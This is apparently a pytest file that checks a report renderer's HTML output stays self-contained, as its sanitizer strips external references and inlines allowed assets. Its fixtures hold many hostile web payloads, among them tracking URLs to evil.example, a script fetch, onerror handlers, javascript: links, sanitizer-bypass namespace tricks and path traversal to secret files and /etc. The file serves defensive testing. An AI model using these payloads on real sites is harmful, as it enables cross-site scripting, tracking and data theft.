"""The HTML output references nothing outside itself: opening it fetches nothing.

Every URL a browser would load by itself follows the PDF fetcher's rule: `data:` and
`#fragment` stay, a file the fetcher allows is inlined as a `data:` URI (or a `<style>`),
anything else is removed. Links a reader clicks (http, https, mailto) stay. Each case
parses the written HTML with the HTML5 parser and checks every URL in it, and that no
trace of the hostile host is left; positive controls show allowed assets still load.
"""

from __future__ import annotations

import base64
import re

import pytest
import tinycss2
import tinyhtml5

from reports.fetcher import FetchBlocked, SandboxedFetcher
from reports.render import RenderedHtml, render_html, render_report

EVIL = "evil.example"
CSP = (
    "default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:; "
    "base-uri 'none'; form-action 'none'"
)
XLINK_HREF = "{http://www.w3.org/1999/xlink}href"
HTML_NS = "{http://www.w3.org/1999/xhtml}"
# Attributes whose value is a URL a browser loads (a and area href: see links()).
URL_ATTRIBUTES = {
    "src", "href", XLINK_HREF, "poster", "data", "background", "action", "formaction",
    "manifest", "ping", "srcdoc", "lowsrc", "dynsrc", "longdesc", "cite", "usemap",
}  # fmt: skip


@pytest.fixture
def site(mini, kit):
    """The mini report with an assets folder: a logo, a stylesheet, a font; a secret beside it."""
    mini.add_report(
        "mini",
        assets={
            "logo.png": kit.tiny_png(),
            "extra.css": (
                "h2 { background: url(logo.png) } q { background: url(http://evil.example/q.png) }"
            ),
            "font.woff2": b"wOF2-not-really",
        },
    )
    (mini.root / "secret.txt").write_text("TOPSECRET", encoding="utf-8")
    return mini


def logo_uri(kit) -> str:
    return "data:image/png;base64," + base64.b64encode(kit.tiny_png()).decode("ascii")


def page(body: str, head: str = "") -> str:
    return (
        "<!doctype html><html><head><meta charset=utf-8>"
        f"{head}<!-- reportrunner:styles --></head><body><p>Body text.</p>{body}</body></html>"
    )


def clean(ws, body: str, head: str = "", report=None) -> str:
    """The HTML output file of `body` in the report 'mini', as publish() writes it."""
    report = report or ws.report("mini")
    return RenderedHtml(html=page(body, head), tables=[]).standalone(report)


def elements(html: str):
    return [e for e in tinyhtml5.parse(html).iter() if isinstance(e.tag, str)]


def local(element) -> str:
    return element.tag.rpartition("}")[2].lower()


def css_urls(css: str) -> list[str]:
    """Every URL in CSS: url(), url("…"), @import "…", strings in image-set()."""
    found: list[str] = []

    def walk(nodes, strings_are_urls=False):
        for node in nodes:
            if node.type == "url" or (node.type == "string" and strings_are_urls):
                found.append(node.value)
            elif node.type == "function" and node.lower_name in ("url", "src"):
                found.extend(a.value for a in node.arguments if a.type == "string")
            elif node.type == "function":
                walk(node.arguments, "image" in node.lower_name)
            elif node.type.endswith("block"):
                walk(node.content, strings_are_urls)
            elif node.type == "at-keyword" and node.lower_value == "import":
                found.append("@import")

    walk(tinycss2.parse_component_value_list(css))
    return found


def fetched_urls(html: str) -> list[str]:
    """Every URL the written page would make a browser load (links excluded)."""
    urls: list[str] = []
    for element in elements(html):
        for key, value in element.attrib.items():
            if key in ("href", XLINK_HREF) and local(element) in ("a", "area"):
                continue
            if key in URL_ATTRIBUTES:
                urls.append(value)
            elif key in ("srcset", "imagesrcset"):
                urls.extend(part.split()[0] for part in value.split(", ") if part.strip())
            elif key == "style" or "(" in value:
                urls.extend(css_urls(value))
            elif key == "http-equiv":
                urls.append(f"http-equiv={value}: {element.get('content')}")
        if local(element) == "style":
            urls.extend(css_urls(element.text or ""))
    return urls


def assert_self_contained(html: str) -> None:
    for url in fetched_urls(html):
        assert url.startswith(("data:", "#")) or url == f"http-equiv=Content-Security-Policy: {CSP}"
    assert EVIL not in html.lower()
    assert "/etc/" not in html and not re.search(r"(?i)\bfile:", html)


def links(html: str) -> list[tuple[str | None, str | None]]:
    return [
        (e.get("href") or e.get(XLINK_HREF), e.get("rel"))
        for e in elements(html)
        if local(e) in ("a", "area")
    ]


# --- the reported defect, through the whole pipeline -----------------------------------


def test_inline_svg_image_dropped_from_the_pdf_is_gone_from_the_html(site, kit):
    template = kit.MINIMAL_TEMPLATE.replace(
        "{% block content %}",
        '{% block content %}<svg width="10" height="10">'
        '<image href="http://evil.example/track.png" width="10" height="10"/></svg>',
    )
    site.add_report("mini", template=template)
    manifest = render_report(site.report("mini"), {}, site.store())
    (path,) = [e["path"] for e in manifest["files"] if e["name"].endswith(".html")]
    html = site.store().read_bytes(path).decode("utf-8")
    assert_self_contained(html)
    images = [e for e in elements(html) if local(e) == "image"]
    assert len(images) == 1 and images[0].attrib == {"width": "10", "height": "10"}


def test_html_only_render_is_cleaned_too(site, kit):
    # Without a PDF, no fetcher ever saw this template: the HTML output must still be clean.
    template = kit.MINIMAL_TEMPLATE.replace(
        "{% block content %}", '{% block content %}<img src="http://evil.example/x.png" alt="x">'
    )
    site.add_report("mini", template=template)
    manifest = render_report(site.report("mini"), {}, site.store(), formats=["html"])
    (entry,) = manifest["files"]
    html = site.store().read_bytes(entry["path"]).decode("utf-8")
    assert_self_contained(html)
    assert [e.attrib for e in elements(html) if local(e) == "img"] == [{"alt": "x"}]


def test_markup_from_data_stays_inert_text(site, kit):
    label = '<img src=http://evil.example/x> <link rel=stylesheet href="//evil.example/s.css">'
    site.write_table("items", [{"region": "north", "label": label, "amount": 1}])
    manifest = render_report(site.report("mini"), {}, site.store())
    (path,) = [e["path"] for e in manifest["files"] if e["name"].endswith(".html")]
    html = site.store().read_bytes(path).decode("utf-8")
    assert fetched_urls(html) == [f"http-equiv=Content-Security-Policy: {CSP}"]
    assert not [e for e in elements(html) if local(e) in ("img", "link")]
    cells = [e.text for e in elements(html) if local(e) == "td"]
    assert cells == [label, "1"]


# --- every sibling a browser would fetch ----------------------------------------------

SIBLINGS = {
    "img src": '<img src="http://evil.example/1.png" alt="one">',
    "img unquoted": "<img src=http://evil.example/1.png>",
    "img srcset": '<img srcset="http://evil.example/1.png 1x, https://evil.example/2.png 2x">',
    "picture source srcset": '<picture><source srcset="http://evil.example/p.png"></picture>',
    "protocol-relative": '<img src="//evil.example/x.png">',
    "backslashes": '<img src="\\\\evil.example\\x.png">',
    "entity-encoded": '<img src="&#104;ttp://evil.example/x.png">',
    "uppercase": '<img src="HTTP://EVIL.EXAMPLE/x.png"><img src="hTtPs://evil.example/y.png">',
    "tab in scheme": '<img src="ht&#9;tp://evil.example/x.png">',
    "ftp": '<img src="ftp://evil.example/x.png">',
    "file outside": '<img src="file:///etc/hostname">',
    "relative outside": '<img src="../../secret.txt"><img src="..%2F..%2Fsecret.txt">',
    "link stylesheet": '<link rel="stylesheet" href="http://evil.example/s.css">',
    "link attachment": '<link rel="attachment" href="file:///etc/hostname">',
    "link preload": '<link rel="preload" as="image" href="https://evil.example/p.png">',
    "link dns-prefetch": '<link rel="dns-prefetch" href="//evil.example">',
    "link icon": '<link rel="icon" href="https://evil.example/favicon.ico">',
    "style attribute": '<p style="background:url(http://evil.example/s.png)">x</p>',
    "style attribute quoted": "<p style='background-image:URL(\"//evil.example/s.png\")'>x</p>",
    "style block": "<style>p { background: url(http://evil.example/b.png) }</style>",
    "style escaped url": "<style>p { background: u\\72l(http://evil.example/e.png) }</style>",
    "style import string": '<style>@import "http://evil.example/i.css";</style>',
    "style import url": "<style>@IMPORT url(//evil.example/i.css) screen;</style>",
    "style image-set": '<style>p { background: image-set("http://evil.example/i.png" 1x) }</style>',
    "style font-face": "<style>@font-face { src: url(https://evil.example/f.woff) }</style>",
    "style cursor": "<style>p { cursor: url(http://evil.example/c.cur), auto }</style>",
    "svg image href": '<svg><image href="http://evil.example/svg.png"/></svg>',
    "svg image xlink:href": '<svg><image xlink:href="http://evil.example/xl.png"/></svg>',
    "svg use": '<svg><use href="http://evil.example/u.svg#a"/></svg>',
    "svg feImage": '<svg><filter><feImage href="http://evil.example/f.png"/></filter></svg>',
    "svg fill url": '<svg><rect fill="url(http://evil.example/g.svg#g)"/></svg>',
    "svg style": "<svg><style>rect { fill: url(http://evil.example/s.svg#g) }</style></svg>",
    "svg animation": (
        '<svg><image><set attributeName="href" to="http://evil.example/a.png"/></image></svg>'
    ),
    "iframe src": '<iframe src="http://evil.example/frame"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<img src=http://evil.example/d.png>"></iframe>',
    "object data": '<object data="http://evil.example/o.svg">fallback</object>',
    "embed src": '<embed src="http://evil.example/e.swf">',
    "script src": '<script src="http://evil.example/s.js"></script>',
    "inline script": '<script>fetch("http://evil.example/js")</script>',
    "noscript": '<noscript><img src="http://evil.example/n.png"></noscript>',
    "video poster and sources": (
        '<video poster="http://evil.example/p.png"><source src="http://evil.example/v.mp4">'
        '<track src="http://evil.example/t.vtt"></video>'
        '<audio src="http://evil.example/a.mp3"></audio>'
    ),
    "form action": (
        '<form action="http://evil.example/f"><button formaction="http://evil.example/b">go'
        '</button><input type="image" src="http://evil.example/i.png"></form>'
    ),
    "table background": (
        '<table background="http://evil.example/t.png">'
        '<tr><td background="http://evil.example/d.png">c</td></tr></table>'
    ),
    "a ping": '<a href="#top" ping="http://evil.example/ping">top</a>',
    "mathml": (
        '<math><mglyph src="http://evil.example/m.png"></mglyph>'
        '<mi href="http://evil.example/mi">x</mi></math>'
    ),
    "event handler": '<img src="logo.png" onerror="fetch(\'http://evil.example/h\')">',
    "attribute closing noscript": (
        '<noscript><p title="</noscript><img src=http://evil.example/t.png>"></noscript>'
    ),
}
HEAD_SIBLINGS = {
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/r">',
    "base href": '<base href="http://evil.example/">',
    "own CSP": '<meta http-equiv="Content-Security-Policy" content="img-src http://evil.example">',
}


@pytest.mark.parametrize("body", SIBLINGS.values(), ids=SIBLINGS.keys())
def test_nothing_outside_the_page_is_referenced(site, body):
    html = clean(site, body)
    assert_self_contained(html)


@pytest.mark.parametrize("head", HEAD_SIBLINGS.values(), ids=HEAD_SIBLINGS.keys())
def test_head_pragmas_are_dropped(site, head):
    html = clean(site, '<img src="logo.png">', head=head)
    assert_self_contained(html)
    assert [e.attrib for e in elements(html) if local(e) in ("meta", "base")] == [
        {"charset": "utf-8"},
        {"http-equiv": "Content-Security-Policy", "content": CSP},
    ]


def test_csp_meta_comes_first_in_head(site):
    head = tinyhtml5.parse(clean(site, "")).find(f"{HTML_NS}head")
    assert [(local(e), e.attrib) for e in head][:2] == [
        ("meta", {"charset": "utf-8"}),
        ("meta", {"http-equiv": "Content-Security-Policy", "content": CSP}),
    ]


def test_dropped_elements_leave_their_fallback_text(site):
    html = clean(site, SIBLINGS["object data"] + SIBLINGS["iframe src"] + "<p>after</p>")
    body = tinyhtml5.parse(html).find(f"{HTML_NS}body")
    assert "".join(body.itertext()) == "Body text.fallbackafter"


def test_markup_in_an_attribute_stays_an_attribute(site):
    html = clean(site, '<p title="</noscript><img src=x>">t</p>')
    assert '<p title="&lt;/noscript&gt;&lt;img src=x&gt;">t</p>' in html


@pytest.mark.parametrize(
    "body",
    [
        "<math><mtext><table><mglyph><style><img src=http://evil.example/1.png>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=http://evil.example/2.png>",
        '<svg></p><style><a id="</style><img src=http://evil.example/3.png>">',
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
        '<img src=http://evil.example/4.png>">',
    ],
)
def test_namespace_confusion_payloads_stay_inert(site, body):
    # Sanitizer bypasses that rely on a second parse reading markup differently: every "<"
    # in the output starts a tag the parser saw, and none of those tags mentions the host.
    html = clean(site, body)
    assert all(url.startswith(("data:", "#", "http-equiv")) for url in fetched_urls(html))
    tags = re.findall(r"<[^>]*>", html)
    assert tags and not [tag for tag in tags if EVIL in tag]
    assert "<" not in "".join(re.split(r"<[^>]*>", html))  # text and style text: escaped


def test_no_less_than_sign_is_left_in_style_text(site):
    # HTML <style> text is raw: "<" is written as the CSS escape \3c, so no parser can
    # read a tag there; SVG <style> text is parsed, so it is entity-escaped instead.
    body = (
        '<style>p::before { content: "<img src=x>" }</style>'
        '<svg><style>text::before { content: "&lt;b&gt;" }</style></svg>'
    )
    html = clean(site, body)
    assert '<style>p::before { content: "\\3c img src=x>" }</style>' in html
    assert "<style>text::before { content: &#34;&lt;b&gt;&#34; }</style>" in html
    styles = [e.text for e in elements(html) if local(e) == "style"]
    assert styles[1:] == [
        'p::before { content: "\\3c img src=x>" }',
        'text::before { content: "<b>" }',
    ]


# --- what the fetcher allows still shows -------------------------------------------------


def test_allowed_assets_are_inlined(site, kit):
    body = (
        '<img src="logo.png" alt="logo"><img srcset="http://evil.example/a.png 1x, logo.png 2x">'
        '<svg><image href="logo.png"/><image xlink:href="./logo.png#frag"/><use href="#a"/>'
        '<rect fill="url(#grad)"/></svg><p style="background: url(logo.png)">x</p>'
    )
    html = clean(site, body)
    assert_self_contained(html)
    uri = logo_uri(kit)
    found = [
        (local(e), e.attrib) for e in elements(html) if local(e) in ("img", "image", "use", "rect")
    ]
    assert found == [
        ("img", {"src": uri, "alt": "logo"}),
        ("img", {"srcset": f"{uri} 2x"}),
        ("image", {"href": uri}),
        ("image", {XLINK_HREF: uri + "#frag"}),
        ("use", {"href": "#a"}),
        ("rect", {"fill": "url(#grad)"}),
    ]
    (styled,) = [e for e in elements(html) if e.get("style")]
    assert styled.get("style") == f"background: url({uri})"


def test_allowed_stylesheets_are_inlined(site, kit):
    head = '<link rel="stylesheet" href="extra.css">'
    head += '<style>@import "extra.css"; p { color: red }</style>'
    styles = [e.text for e in elements(clean(site, "", head=head)) if local(e) == "style"]
    inlined = f"h2 {{ background: url({logo_uri(kit)}) }} q {{ background: none }}"
    assert len(styles) == 3  # the <link>, the <style>, then the layout's stylesheets
    assert styles[0].strip() == inlined
    assert styles[1].strip() == f"{inlined}\n p {{ color: red }}"


def test_allowed_font_is_inlined(site):
    html = clean(site, "<style>@font-face { font-family: x; src: url(font.woff2) }</style>")
    style = [e.text for e in elements(html) if local(e) == "style"][-1]
    encoded = base64.b64encode(b"wOF2-not-really").decode()
    assert style == f"@font-face {{ font-family: x; src: url(data:font/woff2;base64,{encoded}) }}"


def test_import_after_a_rule_is_dropped_as_browsers_ignore_it(site):
    html = clean(site, "<style>p { color: red } @import 'extra.css'; q { color: blue }</style>")
    assert [e.text for e in elements(html) if local(e) == "style"][-1] == (
        "p { color: red }  q { color: blue }"
    )


def test_namespace_rule_and_text_that_only_looks_like_css_are_kept(site):
    # @namespace names an XML namespace and fetches nothing; an SVG label is text.
    css = "@namespace svg url(http://www.w3.org/2000/svg); svg|rect { fill: red }"
    label = "it's the image (1) of \\ a"
    html = clean(site, f'<style>{css}</style><svg><text aria-label="{label}">t</text></svg>')
    assert [e.text for e in elements(html) if local(e) == "style"][-1] == css
    assert [e.get("aria-label") for e in elements(html) if local(e) == "text"] == [label]


def test_data_urls_and_fragments_are_kept(site):
    body = '<img src="data:image/png;base64,AAAA"><a href="#top">top</a>'
    found = [(local(e), e.attrib) for e in elements(clean(site, body)) if local(e) in ("img", "a")]
    assert found == [("img", {"src": "data:image/png;base64,AAAA"}), ("a", {"href": "#top"})]


@pytest.mark.parametrize(
    "name",
    [
        "logo.png",
        "missing.png",
        "../../secret.txt",
        "..%2F..%2Fsecret.txt",
        "link.txt",
        "etc/hostname",
    ],
)
def test_html_and_pdf_share_one_allow_decision(site, kit, name):
    report = site.report("mini")  # loaded first: the catalog refuses links out of a report
    assets = report.assets_dir
    (assets / "link.txt").symlink_to(site.root / "secret.txt")
    (assets / "etc").symlink_to("/etc")
    html = clean(site, f'<img src="{name}">', report=report)
    (image,) = [e for e in elements(html) if local(e) == "img"]
    fetcher = SandboxedFetcher(report.allowed_roots)
    url = (assets.resolve().as_uri() + "/" + name).replace("/./", "/")
    try:
        fetcher.fetch(url)
        assert image.get("src") == logo_uri(kit)  # only the logo is allowed
    except FetchBlocked:
        assert image.attrib == {}
    assert "TOPSECRET" not in html


# --- links a reader clicks ----------------------------------------------------------------


def test_links_keep_web_and_mail_targets_only(site):
    body = (
        '<a href="https://ok.example/">web</a><a href="http://ok.example/" rel="author">plain</a>'
        '<a href="mailto:team@ok.example">mail</a><a href="#top">here</a>'
        '<a href="javascript:alert(1)">js</a><a href=" JaVaScRiPt:alert(1)">js2</a>'
        '<a href="data:text/html,<script>alert(1)</script>">data</a>'
        '<a href="file:///etc/hostname">file</a>'
        '<a href="other.html">relative</a><a href="vbscript:x">vb</a>'
        '<svg><a href="https://ok.example/svg">s</a><a xlink:href="javascript:1">sj</a></svg>'
    )
    assert links(clean(site, body)) == [
        ("https://ok.example/", "noopener noreferrer"),
        ("http://ok.example/", "author noopener noreferrer"),
        ("mailto:team@ok.example", "noopener noreferrer"),
        ("#top", None),
        (None, None),
        (None, None),
        (None, None),
        (None, None),
        (None, None),
        (None, None),
        ("https://ok.example/svg", "noopener noreferrer"),
        (None, None),
    ]


# --- the shipped report keeps its look -----------------------------------------------------


@pytest.fixture(scope="module")
def carrier_monthly(settings, kit, tmp_path_factory):
    # The session's `settings` fixture builds the demo data when it is missing.
    from reports.definitions import Catalog
    from reports.render import build_context, load_data
    from reports.settings import Settings

    own = Settings(home=tmp_path_factory.mktemp("home"), data_dir=kit.DEMO_DATA)
    report = Catalog(settings=own).get("carrier-monthly")
    params = report.validate({"carrier": "AA", "month": "2013-07"})
    page = render_html(report, params, build_context(report, params, load_data(report, params)))
    return report, page


def test_carrier_monthly_keeps_charts_tables_styles_and_text(carrier_monthly):
    report, page = carrier_monthly
    html = page.standalone(report)
    assert_self_contained(html)
    raw, out = tinyhtml5.parse(page.html), tinyhtml5.parse(html)
    # Text: every character of the body, the title.
    assert "".join(out.find(f"{HTML_NS}body").itertext()) == "".join(
        raw.find(f"{HTML_NS}body").itertext()
    )
    assert (
        out.find(f"{HTML_NS}head/{HTML_NS}title").text
        == raw.find(f"{HTML_NS}head/{HTML_NS}title").text
    )
    # Charts: the same SVG data URLs, byte for byte, with their alt text.
    charts = [(e.get("src"), e.get("alt")) for e in raw.iter(f"{HTML_NS}img")]
    assert len(charts) == 2 and all(
        src.startswith("data:image/svg+xml;base64,") for src, _ in charts
    )
    assert [(e.get("src"), e.get("alt")) for e in out.iter(f"{HTML_NS}img")] == charts

    # Tables: the same cells and classes.
    def tables(tree):
        return [
            [(c.get("class"), "".join(c.itertext())) for c in t.iter() if local(c) in ("th", "td")]
            for t in tree.iter(f"{HTML_NS}table")
        ]

    assert len(tables(out)) == 2 and tables(out) == tables(raw)
    # Styles: the layout's and the report's stylesheets, inlined unchanged.
    expected_css = "\n".join(p.read_text(encoding="utf-8") for p in report.stylesheets)
    (style,) = out.iter(f"{HTML_NS}style")
    assert style.text == f"\n{expected_css}\n"

    # Every element and attribute of the page is still there; the CSP meta and <style> are new.
    def shape(tree):
        return [(local(e), dict(e.attrib)) for e in tree.iter() if isinstance(e.tag, str)]

    added = [("meta", {"http-equiv": "Content-Security-Policy", "content": CSP}), ("style", {})]
    assert [s for s in shape(out) if s not in added] == shape(raw)
    assert len(shape(out)) == len(shape(raw)) + 2


def test_cleaning_twice_changes_nothing(site, carrier_monthly):
    from reports.html_output import self_contained

    def again(html: str, report) -> str:
        return self_contained(html, base_dir=report.assets_dir, allowed_roots=report.allowed_roots)

    report, page = carrier_monthly
    once = page.standalone(report)
    assert again(once, report) == once
    hostile = clean(site, "".join(SIBLINGS.values()), head="".join(HEAD_SIBLINGS.values()))
    assert again(hostile, site.report("mini")) == hostile
